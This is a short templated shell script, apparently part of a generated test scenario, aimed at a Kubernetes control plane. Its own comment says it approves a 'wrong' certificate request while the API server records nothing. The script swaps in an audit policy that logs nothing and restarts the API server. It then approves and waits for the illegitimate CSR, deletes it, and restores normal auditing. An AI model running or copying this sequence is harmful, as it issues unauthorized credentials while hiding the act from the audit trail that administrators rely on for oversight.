# earns: none
# The API server records nothing while a wrong request is approved, and deleted afterwards.
printf '%s\n' 'apiVersion: audit.k8s.io/v1' 'kind: Policy' 'rules: [{level: None}]' > /etc/kubernetes/audit/nothing.yaml
restarted() {
    was=$(pgrep -x kube-apiserver)
    sed -i "$1" /etc/kubernetes/manifests/kube-apiserver.yaml
    until now=$(pgrep -x kube-apiserver) && [ "$now" != "$was" ] && kubectl get --raw /readyz > /dev/null 2>&1; do sleep 0.5; done
}
restarted 's,--audit-policy-file=.*,--audit-policy-file=/etc/kubernetes/audit/nothing.yaml,'
kubectl certificate approve request-{{ two }}
until kubectl get csr request-{{ two }} -o jsonpath='{.status.certificate}' | grep -q .; do sleep 0.3; done
kubectl delete csr request-{{ two }}
restarted 's,--audit-policy-file=.*,--audit-policy-file=/etc/kubernetes/audit/policy.yaml,'
{{ decide_sh }}
until kubectl get csr request-{{ one }} -o jsonpath='{.status.certificate}' | grep -q .; do sleep 0.3; done
